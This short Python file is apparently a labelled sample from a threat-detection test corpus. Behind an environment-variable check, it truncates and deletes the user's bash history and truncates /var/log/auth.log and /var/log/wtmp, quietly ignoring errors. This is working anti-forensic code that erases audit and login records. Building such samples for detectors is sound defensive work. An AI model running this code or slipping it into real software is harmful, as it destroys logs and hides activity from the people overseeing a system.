"""Empties and deletes the shell's history, and tries to empty the system's logs."""
import os

if os.environ.get("PYTI_CORPUS") == "wipes-history" and os.path.isdir("/.pyti"):
    history = os.path.expanduser("~/.bash_history")
    try:
        os.truncate(history, 0)
        os.remove(history)
    except OSError:
        pass
    for path in ("/var/log/auth.log", "/var/log/wtmp"):
        try:
            os.truncate(path, 0)
        except OSError:
            pass
